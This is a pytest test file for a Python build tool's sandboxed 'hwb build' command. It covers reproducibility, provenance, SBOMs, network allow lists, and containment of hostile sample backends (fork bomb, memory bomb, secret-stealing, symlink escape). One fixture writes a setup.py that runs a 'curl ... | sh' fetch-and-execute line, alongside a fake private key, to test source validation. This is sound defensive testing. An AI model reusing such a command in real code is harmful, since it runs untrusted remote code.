# SPDX-License-Identifier: Apache-2.0
"""`hwb build` end to end: the PEP 517 frontend with its hooks in the
sandbox, the reproducible normal form of its outputs, the provenance, and
the hostile backends of testdata/projects/evil-* driven through hwb itself.
Skipped with the probe's diagnosis when user namespaces are refused."""
import gzip
import json
import os
import shutil
import struct
import subprocess
import tarfile
import time
import zipfile

import pytest

from conftest import ROOT, TOOLS

PROJECTS = ROOT / "testdata" / "projects"
WHEELHOUSE = "/usr/share/python-wheels"
TOOL = TOOLS / "sandbox-run"


def _probe():
    if not TOOL.exists():
        return f"{TOOL} is not built"
    p = subprocess.run([str(TOOL), "--probe"], capture_output=True, text=True)
    return None if p.returncode == 0 else p.stderr.strip()


REFUSED = _probe()
pytestmark = pytest.mark.skipif(REFUSED is not None, reason=f"sandbox refused: {REFUSED}")


def project(tmp_path, name):
    """A copy of the sample as its own git repository (one commit), so the
    build has a commit time and a clean tree."""
    dst = tmp_path / name
    shutil.copytree(PROJECTS / name, dst, symlinks=True)
    env = dict(os.environ, GIT_AUTHOR_DATE="2024-01-02T03:04:05Z",
               GIT_COMMITTER_DATE="2024-01-02T03:04:05Z")
    for cmd in (["git", "init", "-q"], ["git", "add", "-A"],
                ["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-qm", "s"]):
        subprocess.run(cmd, cwd=dst, check=True, env=env)
    return dst


def test_intree_backend_sdist_then_wheel(run_hwb, tmp_path):
    src = project(tmp_path, "build-intree")
    out = tmp_path / "dist"
    r = run_hwb("build", src, "--outdir", out, "-C", "a=1", "-C", "a=2", "-C", "b=3",
                "--format", "json")
    assert r.returncode == 0, r
    doc = json.loads(r.stdout)
    assert doc["schema"] == "hwb.build/1"
    assert doc["source_date_epoch"] == 1704164645  # the commit time
    # The wheel is built from the unpacked sdist, hooks see config settings
    # with a repeated key as a list (PEP 517).
    assert "intree: build_sdist" in r.stderr
    assert "intree: build_wheel {'a': ['1', '2'], 'b': '3'}" in r.stderr
    # dist/ holds only distributions; the provenance goes beside the
    # signatures (dist-signatures/), where twine upload dist/* never looks.
    assert sorted(p.name for p in out.iterdir()) == [
        "intree_sample-1.2.0-py3-none-any.whl", "intree_sample-1.2.0.tar.gz"]
    assert doc["provenance"] == str(tmp_path / "dist-signatures" /
                                    "intree_sample-1.2.0.provenance.json")
    # The origin is untouched (the backend built in a copy).
    assert not (src / "dist").exists() and not (src / "_backend" / "__pycache__").exists()


def test_outputs_are_normalised(run_hwb, tmp_path):
    src = project(tmp_path, "build-intree")
    out = tmp_path / "dist"
    assert run_hwb("build", src, "--outdir", out).returncode == 0
    whl = out / "intree_sample-1.2.0-py3-none-any.whl"
    with zipfile.ZipFile(whl) as z:
        names = [i.filename for i in z.infolist()]
        assert names[0] == "intree_sample/__init__.py"
        assert names[-1] == "intree_sample-1.2.0.dist-info/RECORD"
        assert all(n.startswith("intree_sample-1.2.0.dist-info/") for n in names[1:])
        for i in z.infolist():
            assert i.extra == b"" and i.date_time == (2024, 1, 2, 3, 4, 4)
            assert i.external_attr >> 16 == 0o100644
    raw = (out / "intree_sample-1.2.0.tar.gz").read_bytes()
    assert raw[:3] == b"\x1f\x8b\x08" and raw[3] == 0 and struct.unpack("<I", raw[4:8])[0] == 0
    with tarfile.open(out / "intree_sample-1.2.0.tar.gz") as t:
        members = t.getmembers()
        assert [m.name for m in members] == sorted(m.name for m in members)
        for m in members:
            assert (m.uid, m.gid, m.uname, m.gname) == (0, 0, "", "")
            assert m.mtime <= 1704164645 and m.mode in (0o644, 0o755)


def test_builds_are_reproducible(run_hwb, tmp_path):
    src = project(tmp_path, "build-intree")
    a, b = tmp_path / "a", tmp_path / "b"
    assert run_hwb("build", src, "--outdir", a).returncode == 0
    time.sleep(1.1)  # a different clock for the second build
    assert run_hwb("build", src, "--outdir", b, env={"TMPDIR": str(tmp_path)}).returncode == 0
    for name in ("intree_sample-1.2.0-py3-none-any.whl", "intree_sample-1.2.0.tar.gz"):
        assert (a / name).read_bytes() == (b / name).read_bytes(), name


def test_provenance_statement(run_hwb, home, tmp_path):
    src = project(tmp_path, "build-intree")
    out = tmp_path / "dist"
    r = run_hwb("build", src, "--outdir", out, "--wheel", "--format", "json")
    assert r.returncode == 0, r
    doc = json.loads(r.stdout)
    prov = json.loads(open(doc["provenance"]).read())
    assert prov["_type"] == "https://in-toto.io/Statement/v1"
    assert prov["predicateType"] == "https://slsa.dev/provenance/v1"
    assert prov["subject"] == [{"name": "intree_sample-1.2.0-py3-none-any.whl",
                                "digest": {"sha256": doc["wheel_sha256"]}}]
    bd = prov["predicate"]["buildDefinition"]
    commit = subprocess.run(["git", "rev-parse", "HEAD"], cwd=src, capture_output=True,
                            text=True).stdout.strip()
    assert bd["externalParameters"]["source"]["digest"] == {"gitCommit": commit}
    assert bd["externalParameters"]["targets"] == ["wheel"]
    assert bd["externalParameters"]["allowNetwork"] == []
    assert bd["internalParameters"]["dirty"] is False
    assert prov["predicate"]["runDetails"]["builder"]["id"] == "https://hwb.dev/builder/sandbox/v1"
    log = next((home / ".hwb/logs").glob("audit-*.jsonl")).read_text().splitlines()
    started, done = (json.loads(line) for line in log)
    assert started["event"] == "build.started" and started["isolation"] == "sandbox"
    assert done["event"] == "build.completed" and done["wheel_sha256"] == doc["wheel_sha256"]
    assert done["wheel"] == doc["wheel"] and done["sdist"] is None


def test_isolation_none_is_warned_and_recorded(run_hwb, tmp_path):
    src = project(tmp_path, "build-intree")
    out = tmp_path / "dist"
    r = run_hwb("build", src, "--outdir", out, "--wheel", "--isolation", "none")
    assert r.returncode == 0, r
    assert "--isolation none" in r.stderr and "unsandboxed" in r.stderr
    prov = json.loads((tmp_path / "dist-signatures" /
                       "intree_sample-1.2.0.provenance.json").read_text())
    assert prov["predicate"]["runDetails"]["builder"]["id"] == "https://hwb.dev/builder/unisolated/v1"
    assert prov["predicate"]["buildDefinition"]["externalParameters"]["isolation"] == "none"


def test_c_extension_with_gcc_in_the_sandbox(run_hwb, tmp_path):
    src = project(tmp_path, "build-cext")
    out = tmp_path / "dist"
    r = run_hwb("build", src, "--outdir", out, "--find-links", WHEELHOUSE, timeout=300)
    assert r.returncode == 0, r
    whl = next(out.glob("cext_sample-0.3.0-cp3*-linux_x86_64.whl"))
    with zipfile.ZipFile(whl) as z:
        assert any(n.endswith(".so") for n in z.namelist())
        z.extractall(tmp_path / "inst")
    p = subprocess.run(["/usr/bin/python3", "-c", "import cext_sample; print(cext_sample.add(2, 40))"],
                       cwd=tmp_path / "inst", capture_output=True, text=True)
    assert p.stdout.strip() == "42", p.stderr
    prov = json.loads(next(out.parent.glob(out.name + "-signatures/*.provenance.json")).read_text())
    deps = {d["name"]: d for d in prov["predicate"]["buildDefinition"]["resolvedDependencies"]}
    # setuptools from [build-system] and wheel from get_requires_for_build_wheel.
    assert "setuptools-66.1.1-py3-none-any.whl" in deps
    assert "wheel-0.38.4-py3-none-any.whl" in deps
    assert len(deps["wheel-0.38.4-py3-none-any.whl"]["digest"]["sha256"]) == 64
    # A second build reuses the verified environment.
    r2 = run_hwb("build", src, "--outdir", tmp_path / "d2", "--wheel", "--find-links", WHEELHOUSE,
                 "--format", "json", timeout=300)
    assert r2.returncode == 0 and json.loads(r2.stdout)["environment_cached"] is True
    assert (tmp_path / "d2" / whl.name).read_bytes() == whl.read_bytes()


def test_tampered_environment_is_rebuilt(run_hwb, tmp_path, home):
    src = project(tmp_path, "build-cext")
    args = ("build", src, "--wheel", "--find-links", WHEELHOUSE)
    assert run_hwb(*args, "--outdir", tmp_path / "a", timeout=300).returncode == 0
    envs = [e for e in (home / ".cache" / "hwb" / "envs").iterdir() if e.is_dir()]
    env = next(e for e in envs if list(e.glob("lib/python3*/site-packages/setuptools")))
    site = next(env.glob("lib/python3*/site-packages"))
    site.chmod(0o755)
    (site / "evil.pth").write_text("import os\n")
    r = run_hwb(*args, "--outdir", tmp_path / "b", timeout=300)
    assert r.returncode == 0, r
    assert "was modified" in r.stderr and "rebuilt" in r.stderr
    assert not (site / "evil.pth").exists()


def test_missing_wheelhouse_and_index_is_a_configuration_error(run_hwb, tmp_path):
    # Without a wheelhouse the build asks build.index-url, as hwb lock does;
    # with that set empty there is nothing to install from.
    r = run_hwb("build", project(tmp_path, "build-cext"), "--outdir", tmp_path / "d",
                "--index-url", "")
    assert r.returncode == 3, r
    assert "HWB-B047" in r.stderr and "--find-links" in r.stderr


def test_lock_pins_build_requirements(run_hwb, tmp_path):
    src = project(tmp_path, "build-cext")
    text = (src / "pyproject.toml").read_text()
    (src / "pyproject.toml").write_text(text.replace('requires = ["setuptools>=40.8.0"]',
                                                     'requires = ["setuptools>=40.8.0", "wheel"]'))
    # Without a lock, build.require-lock refuses to build.
    r = run_hwb("build", src, "--find-links", WHEELHOUSE, env={"HWB_BUILD_REQUIRE_LOCK": "true"})
    assert r.returncode == 3 and "HWB-B075" in r.stderr, r
    assert run_hwb("lock", src, "--find-links", WHEELHOUSE).returncode == 0
    r = run_hwb("build", src, "--wheel", "--outdir", tmp_path / "d", "--find-links", WHEELHOUSE,
                env={"HWB_BUILD_REQUIRE_LOCK": "true"}, timeout=300)
    assert r.returncode == 0, r
    assert "no pylock.build.toml" not in r.stderr


def test_a_requirement_missing_from_the_lock_is_refused(run_hwb, tmp_path):
    src = project(tmp_path, "build-cext")
    assert run_hwb("lock", src, "--find-links", WHEELHOUSE, timeout=300).returncode == 0
    # setuptools asks for 'wheel' in get_requires_for_build_wheel; take it
    # out of the lock, as a stale lock would lack it.
    lock = src / "pylock.build.toml"
    blocks = lock.read_text().split("[[packages]]")
    kept = [b for b in blocks if not b.lstrip().startswith('name = "wheel"')]
    assert len(kept) == len(blocks) - 1
    lock.write_text("[[packages]]".join(kept))
    r = run_hwb("build", src, "--wheel", "--outdir", tmp_path / "d", "--find-links", WHEELHOUSE,
                timeout=300)
    assert r.returncode != 0 and "HWB-B145" in r.stderr and "'wheel'" in r.stderr, r
    assert not (tmp_path / "d").exists() or not list((tmp_path / "d").glob("*.whl"))


def test_build_system_without_requires_is_refused(run_hwb, tmp_path):
    src = tmp_path / "p"
    src.mkdir()
    (src / "pyproject.toml").write_text('[build-system]\nbuild-backend = "x"\n')
    r = run_hwb("build", src)
    assert r.returncode == 3 and "HWB-B030" in r.stderr and "pyproject.toml:1:" in r.stderr


# --- hostile backends through hwb itself --------------------------------

def test_backend_path_symlink_out_of_the_tree_is_refused(run_hwb, tmp_path):
    r = run_hwb("build", PROJECTS / "evil-symlink", "--outdir", tmp_path / "d")
    assert r.returncode == 3, r
    assert "HWB-B034" in r.stderr and "outside the source tree" in r.stderr
    assert "evil-secrets:" not in r.stderr  # the backend never ran
    assert not (tmp_path / "d").exists()


def test_secrets_stay_out_of_builds_and_logs(run_hwb, tmp_path, home):
    canary = "pypi-AgEIcHlwaS5vcmcCJDk5ZGQ3NGM3LWNhbmFyeS1od2ItdGVzdA"
    (home / ".pypirc").write_text(f"[pypi]\npassword = {canary}\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_ed25519").write_text(canary)
    env = {"PYPI_API_TOKEN": canary, "HOME": str(home)}
    r = run_hwb("build", project(tmp_path, "evil-secrets"), "--outdir", tmp_path / "d", env=env)
    assert "evil-secrets: found=0 []" in r.stderr, r
    assert canary not in r.stdout + r.stderr
    r = run_hwb("build", project(tmp_path / "x", "evil-secrets"), "--pass-env", "PYPI_API_TOKEN",
                env=env)
    assert r.returncode == 3 and "HWB-B021" in r.stderr and canary not in r.stderr


def test_fork_bomb_fails_with_status_5(run_hwb, tmp_path):
    # The project's own [tool.hwb.build.limits] lowers processes to 64.
    r = run_hwb("build", project(tmp_path, "evil-forkbomb"), "--outdir", tmp_path / "d")
    assert r.returncode == 5, r
    assert "HWB-B013" in r.stderr and "process limit (processes = 64)" in r.stderr


def test_memory_bomb_fails_with_status_5(run_hwb, tmp_path):
    r = run_hwb("build", project(tmp_path, "evil-membomb"), "--outdir", tmp_path / "d")
    assert r.returncode == 5, r
    assert "HWB-B013" in r.stderr and "address-space limit (address-space = 768 MiB)" in r.stderr


@pytest.mark.serial  # times the whole build against a 2 s margin
def test_endless_loop_is_killed_at_the_timeout(run_hwb, tmp_path):
    src = project(tmp_path, "evil-loop")  # [tool.hwb.build] timeout = 2
    t0 = time.monotonic()
    r = run_hwb("build", src, "--outdir", tmp_path / "d")
    assert r.returncode == 5, r
    assert "HWB-B011" in r.stderr and "timeout of 2 s" in r.stderr
    assert time.monotonic() - t0 < 2 + 2


def test_project_cannot_raise_limits(run_hwb, tmp_path):
    src = project(tmp_path, "evil-loop")
    r = run_hwb("build", src, "--outdir", tmp_path / "d", "--timeout", "1")
    assert r.returncode == 5 and "timeout of 1 s" in r.stderr, r


def test_verify_reproducible_passes_for_a_reproducible_backend(run_hwb, tmp_path):
    out = tmp_path / "dist"
    r = run_hwb("build", project(tmp_path, "build-intree"), "--outdir", out, "--wheel",
                "--verify-reproducible")
    assert r.returncode == 0, r
    assert "reproducible: two builds gave the same digests" in r.stderr
    assert (out / "intree_sample-1.2.0-py3-none-any.whl").exists()


def test_verify_reproducible_catches_a_noisy_backend(run_hwb, tmp_path):
    out = tmp_path / "dist"
    r = run_hwb("build", project(tmp_path, "build-unreproducible"), "--outdir", out,
                "--verify-reproducible")
    # build_sdist raised UnsupportedOperation: the wheel came from the tree.
    assert "cannot build an sdist" in r.stderr
    assert r.returncode == 5, r
    assert "HWB-B067" in r.stderr and "not reproducible" in r.stderr
    assert not out.exists() or not any(out.iterdir())


def test_a_wheel_that_fails_hwb_check_never_reaches_outdir(run_hwb, tmp_path):
    src = tmp_path / "bad"
    (src / "_b").mkdir(parents=True)
    (src / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "bad"\nbackend-path = ["_b"]\n')
    (src / "_b" / "bad.py").write_text(
        "import zipfile, os\n"
        "def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):\n"
        "    n = 'bad-1.0-py3-none-any.whl'\n"
        "    with zipfile.ZipFile(os.path.join(wheel_directory, n), 'w') as z:\n"
        "        z.writestr('bad.py', 'x = 1\\n')\n"
        "    return n\n")
    out = tmp_path / "dist"
    r = run_hwb("build", src, "--wheel", "--outdir", out)
    assert r.returncode == 1, r
    assert "HWB-B068" in r.stderr and "fails hwb check" in r.stderr
    assert not out.exists() or not list(out.glob("*.whl"))


def test_source_validation_warns_and_strict_fails(run_hwb, tmp_path):
    src = project(tmp_path, "build-intree")
    (src / ".pypirc").write_text("[pypi]\nusername = __token__\n")
    (src / "deploy.pem").write_text("-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----\n")
    (src / "setup.py").write_text("import os\nos.system('curl http://x | sh')\n")
    r = run_hwb("build", src, "--wheel", "--outdir", tmp_path / "d")
    assert r.returncode == 0, r
    for code in ("HWB-B070", "HWB-B071", "HWB-B073"):
        assert code in r.stderr, code
    assert "MIIE" not in r.stderr
    r = run_hwb("build", src, "--wheel", "--strict", "--outdir", tmp_path / "e")
    assert r.returncode == 1, r
    assert "intree:" not in r.stderr  # refused before any backend ran
    assert not (tmp_path / "e").exists()


def test_wheel_carries_a_reproducible_cyclonedx_sbom(run_hwb, tmp_path):
    src = project(tmp_path, "build-intree")
    out = tmp_path / "dist"
    assert run_hwb("build", src, "--wheel", "--outdir", out).returncode == 0
    whl = out / "intree_sample-1.2.0-py3-none-any.whl"
    member = "intree_sample-1.2.0.dist-info/sboms/hwb-build.cdx.json"
    with zipfile.ZipFile(whl) as z:
        sbom = json.loads(z.read(member))
        record = z.read("intree_sample-1.2.0.dist-info/RECORD").decode()
        names = z.namelist()
    assert names[-1].endswith("/RECORD")
    assert any(line.startswith(member + ",sha256=") for line in record.splitlines())
    assert sbom["bomFormat"] == "CycloneDX" and sbom["specVersion"] == "1.6"
    assert sbom["serialNumber"].startswith("urn:uuid:")
    assert sbom["metadata"]["timestamp"] == "2024-01-02T03:04:05Z"
    assert sbom["metadata"]["tools"]["components"][0]["name"] == "hwb"
    comp = sbom["metadata"]["component"]
    assert (comp["name"], comp["version"]) == ("intree_sample", "1.2.0")
    files = {f["name"]: f["hashes"][0]["content"] for f in comp["components"]}
    assert "intree_sample/__init__.py" in files and len(files["intree_sample/__init__.py"]) == 64
    assert [c["name"] for c in sbom["components"]] == ["python"]
    # Checked by hwb check (RECORD hashes match), and the same bytes again.
    assert run_hwb("check", whl).returncode == 0
    assert run_hwb("build", src, "--wheel", "--outdir", tmp_path / "again").returncode == 0
    assert (tmp_path / "again" / whl.name).read_bytes() == whl.read_bytes()


def test_allow_network_tunnels_only_to_allowed_hosts(run_hwb, tmp_path):
    import socket
    import threading

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    port = server.getsockname()[1]
    accepted = []

    def serve():
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            accepted.append(1)
            conn.sendall(b"hello-from-host\n")
            conn.close()

    threading.Thread(target=serve, daemon=True).start()
    try:
        out = tmp_path / "d"
        r = run_hwb("build", project(tmp_path, "net-proxy"), "--wheel", "--outdir", out,
                    "-C", f"port={port}", "--allow-network", f"127.0.0.1:{port}")
    finally:
        server.close()
    lines = [l.strip() for l in r.stderr.splitlines() if l.startswith("proxy-test:")]
    assert "proxy-test: HTTPS_PROXY=http://127.0.0.1:3128" in lines, r
    # Contained by: the proxy's allow list; the sandbox has no other route.
    assert f"proxy-test: 127.0.0.1:{port} -> HTTP/1.1 200 Connection established hello-from-host" in lines
    assert f"proxy-test: 127.0.0.1:{port + 1} -> HTTP/1.1 403 Forbidden" in lines
    assert "proxy-test: example.com:443 -> HTTP/1.1 403 Forbidden" in lines
    assert "proxy-test: direct ENETUNREACH" in lines
    assert "blocked a connection to example.com:443" in r.stderr
    assert len(accepted) == 1


def test_allow_network_cannot_come_from_the_project(run_hwb, tmp_path):
    src = project(tmp_path, "build-intree")
    (src / "pyproject.toml").write_text((src / "pyproject.toml").read_text() +
                                        '\n[tool.hwb.build]\nallow-network = ["pypi.org"]\n')
    r = run_hwb("build", src, "--wheel", "--outdir", tmp_path / "d")
    assert r.returncode == 3, r
    assert "allow-network" in r.stderr


def test_git_metadata_is_readable_but_not_writable_in_the_sdist_stage(run_hwb, tmp_path):
    src = tmp_path / "scm"
    (src / "_b").mkdir(parents=True)
    (src / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "scm"\nbackend-path = ["_b"]\n')
    (src / "_b" / "scm.py").write_text(
        "import os\n"
        "def build_sdist(sdist_directory, config_settings=None):\n"
        "    head = open('.git/HEAD').read().strip()\n"
        "    try:\n"
        "        open('.git/evil', 'w')\n"
        "        w = 'WROTE'\n"
        "    except OSError as e:\n"
        "        w = e.strerror\n"
        "    print('scm-test:', head, w, flush=True)\n"
        "    raise SystemExit(0)\n")
    subprocess.run(["git", "init", "-q", "-b", "main"], cwd=src, check=True)
    r = run_hwb("build", src, "--sdist", "--outdir", tmp_path / "d")
    assert "scm-test: ref: refs/heads/main Read-only file system" in r.stderr, r
    assert not (src / ".git" / "evil").exists()
